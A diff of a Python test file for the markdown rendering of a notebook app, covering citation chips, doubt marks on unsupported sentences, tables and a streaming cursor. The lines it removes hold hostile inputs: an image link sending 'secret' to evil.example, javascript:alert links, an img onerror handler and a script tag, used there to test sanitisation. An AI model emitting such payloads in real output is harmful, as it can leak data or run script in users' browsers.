@@ -1,9 +1,6 @@
 from __future__ import annotations
 
-import re
-
 import pytest
-from markdown_it import MarkdownIt
 
 from ingest.models import Anchor
 from notebook_app.records import Citation
@@ -20,74 +17,31 @@ def answer(text: str, sentences: list[dict[str, object]], *numbers: int) -> tupl
 
 def test_a_marker_becomes_a_chip_and_one_without_citation_is_left_out() -> None:
     body, _ = answer("It lasts [1]. It fades [2].", [], 1)
-    assert "[1](#cite-m1-1)" in body
-    assert body.endswith("It fades.")
+    assert body == "It lasts\u2060[1](#cite-m1-1). It fades."
 
 
 def test_code_is_left_as_it_is() -> None:
-    text = "Take `a[1]` and\n```\nb[1] = ~c\n```"
+    text = "Take `a[1]` and\n\n```\nb[1] = ~c\n```"
     assert answer(text, [], 1)[0] == text
 
 
-@pytest.mark.parametrize(
-    "hostile",
-    [
-        "![x](https://evil.example/?q=secret)",
-        "[click](https://evil.example)",
-        "[click](javascript:alert(1))",
-        "see https://evil.example/now and www.evil.example",
-        "[ref]\n\n[ref]: https://evil.example",
-        "[a [b] c](javascript:alert(1))",
-        "[over two](\njavascript:alert(1))",
-        "> [r]: javascript:alert(1)\n\n[go][r] and [r]",
-        "![x][r]\n\n- [r]: https://evil.example/pixel.png",
-        "<img src=https://evil.example/pixel.png> <script>alert(1)</script>",
-        ":red[shout] and :material/lock: and :orange-badge[weak]",
-    ],
-)
-def test_what_a_model_wrote_neither_fetches_nor_links_nor_styles(hostile: str) -> None:
-    tamed = markup.tame(hostile)
-    assert "](" not in tamed
-    assert "![" not in tamed
-    assert "https://" not in tamed or "\\[ref\\]:" in tamed
-    assert ":red[" not in tamed.replace("\\:red[", "")
-    assert ":material/" not in tamed.replace("\\:material/", "")
-
-
-@pytest.mark.parametrize(
-    "hostile",
-    [
-        "![x](https://evil.example/?q=secret)",
-        "![x](data:image/png;base64,AAAA)",
-        "[a [b] c](javascript:alert(1))",
-        "[over two](\njavascript:alert(1))",
-        "> [r]: javascript:alert(1)\n\n[go][r] and [r]",
-        "![x][r]\n\n- [r]: //evil.example/pixel.png",
-        "<https://evil.example> <a href='javascript:alert(1)'>x</a> <img src=x onerror=alert(1)>",
-    ],
-)
-def test_nothing_of_it_becomes_a_picture_a_link_or_html(hostile: str) -> None:
-    body, _ = answer(f"It lasts [1]. {hostile}", [], 1)
-    shown = MarkdownIt("commonmark", {"html": False}).render(body)
-    assert "<img" not in shown
-    assert re.findall(r'href="([^"]*)"', shown) == ["#cite-m1-1"]
-    assert "<script" not in shown
-
-
 def test_about_is_not_struck_through() -> None:
-    assert markup.tame("~10 to ~20, but ~~gone~~") == r"\~10 to \~20, but ~~gone~~"
+    assert markup.shown("~10 to ~20, but ~~gone~~") == r"\~10 to \~20, but ~~gone~~"
+
+
+SENTENCES = [
+    {"text": "It lasts.", "citations": [1], "verdict": "supported"},
+    {"text": "It fades", "citations": [2], "verdict": "weak"},
+    {"text": "It sings", "citations": [2], "verdict": "unsupported"},
+]
+WEAK, UNSUPPORTED = "\u2060[verdict_weak](#doubt-weak)", "\u2060[verdict_unsupported](#doubt-unsupported)"
 
 
 def test_a_sentence_that_is_not_borne_out_is_marked_after_its_markers() -> None:
-    sentences = [
-        {"text": "It lasts.", "citations": [1], "verdict": "supported"},
-        {"text": "It fades", "citations": [2], "verdict": "weak"},
-        {"text": "It sings", "citations": [2], "verdict": "unsupported"},
-    ]
-    body, lost = answer("It lasts. [1] It fades [2]. It sings [2].", sentences, 1, 2)
-    assert "(#cite-m1-2). :orange-badge[verdict_weak]" in body
-    assert body.endswith("(#cite-m1-2). :red-badge[verdict_unsupported]")
-    assert lost == 0
+    body, lost = answer("It lasts. [1] It fades [2]. It sings [2].", SENTENCES, 1, 2)
+    assert f"(#cite-m1-2).{WEAK} It" in body
+    assert body.endswith(f"(#cite-m1-2).{UNSUPPORTED}")
+    assert (lost, body.count("#doubt-")) == (0, 2)
 
 
 def test_a_sentence_is_found_with_its_markers_before_the_full_stop() -> None:
@@ -95,19 +49,63 @@ def test_a_sentence_is_found_with_its_markers_before_the_full_stop() -> None:
         {"text": "It lasts, and grows.", "citations": [1, 2], "verdict": "weak"},
         {"text": "It sings.", "citations": [2], "verdict": "unsupported"},
     ]
-    body, lost = answer("It lasts [1], and grows [2][1]. It sings [2].", sentences, 1, 2)
+    body, lost = answer("It lasts [1], and **grows** [2][1]. It sings [2].", sentences, 1, 2)
     assert lost == 0
-    assert body.endswith(":red-badge[verdict_unsupported]")
-    assert ". :orange-badge[verdict_weak] It sings" in body
+    assert body.endswith(UNSUPPORTED)
+    assert f".{WEAK} It sings" in body
 
 
 def test_a_verdict_without_a_place_is_counted() -> None:
     assert answer("Something else.", [{"text": "Lost", "citations": [], "verdict": "weak"}]) == ("Something else.", 1)
 
 
+def doubted(*texts: str) -> list[dict[str, object]]:
+    return [{"text": text, "citations": [1], "verdict": "unsupported"} for text in texts]
+
+
+@pytest.mark.parametrize(
+    ("text", "sentence", "expected"),
+    [
+        ("See vol. 20, no. 6 of it. More.", "See vol.", f"See vol. 20, no. 6 of it.{UNSUPPORTED} More."),
+        ("Of `x = 1` here.", "Of x = 1 here.", f"Of `x = 1` here.{UNSUPPORTED}"),
+        ("- One [1].\n- Two **fades** [1].", "Two fades.", "- One\u2060[1](#cite-m1-1).\n- Two **fades**"),
+        ("> It fades.", "It fades.", f"> It fades.{UNSUPPORTED}"),
+        ("遗忘很快。它会消退 [1]。", "它会消退。", f"遗忘很快。它会消退\u2060[1](#cite-m1-1)。{UNSUPPORTED}"),
+        ("It is $a^2$. It fades.", "It is a^2.", f"It is $a^2$.{UNSUPPORTED} It fades."),
+    ],
+)
+def test_a_mark_stands_at_the_end_of_its_sentence(text: str, sentence: str, expected: str) -> None:
+    body, lost = answer(text, doubted(sentence), 1)
+    assert lost == 0
+    assert body.count("#doubt-") == 1
+    assert expected in body
+
+
+def test_a_table_keeps_its_rows_and_is_marked_in_its_cells() -> None:
+    text = "| Group | Kept |\n|:--|--:|\n| spaced | 72% [1] |\n| massed | 46% [1] |"
+    body, lost = answer(text, doubted("massed | 46%"), 1)
+    assert body.split("\n") == [
+        "| Group | Kept |",
+        "|:--|--:|",
+        "| spaced | 72%\u2060[1](#cite-m1-1) |",
+        f"| massed | 46%\u2060[1](#cite-m1-1){UNSUPPORTED} |",
+    ]
+    assert lost == 0
+
+
+@pytest.mark.parametrize(
+    "text", ["```\nIt fades.\n```", "## It fades", "**It fades**", "$$\nIt fades\n$$", "`It fades`x"]
+)
+def test_code_headings_and_formulas_are_never_marked(text: str) -> None:
+    body, lost = answer(text, doubted("It fades"), 1)
+    assert "#doubt" not in body or text.startswith("`It")
+    assert "#doubt" not in body.split("`")[1::2]
+    assert lost == ("#doubt" not in body)
+
+
 @pytest.mark.parametrize("tail", ["", " [", " [1", "[1, 2", " [12"])
 def test_a_marker_cut_in_two_waits(tail: str) -> None:
-    assert markup.half_written(f"It lasts{tail}") == "It lasts"
+    assert markup.half_written(f"It lasts{tail}") == "It lasts ▍"
 
 
 def test_a_whole_marker_of_a_growing_text_is_not_yet_live() -> None:
@@ -134,4 +132,12 @@ def test_the_opening_of_a_guide_is_its_summary() -> None:
 
 
 def test_a_chip_after_a_colon_stays_a_chip() -> None:
-    assert markup.with_chips("It says: [1]", "m", [1]) == "It says\\:\u2060[1](#cite-m-1)"
+    assert answer("It says: [1]", [], 1)[0] == "It says\\:\u2060[1](#cite-m1-1)"
+
+
+@pytest.mark.parametrize(
+    "text", ["| a | b |\n|---|---|\n| 1 | 2 |", "```py\nx = 1", "$$\nx\n$$", "Text[^1]\n\n[^1]: note"]
+)
+def test_the_cursor_of_a_growing_text_breaks_nothing(text: str) -> None:
+    assert markup.half_written(text).endswith("\n\n▍")
+    assert markup.half_written("- a\n  - b") == "- a\n  - b ▍"
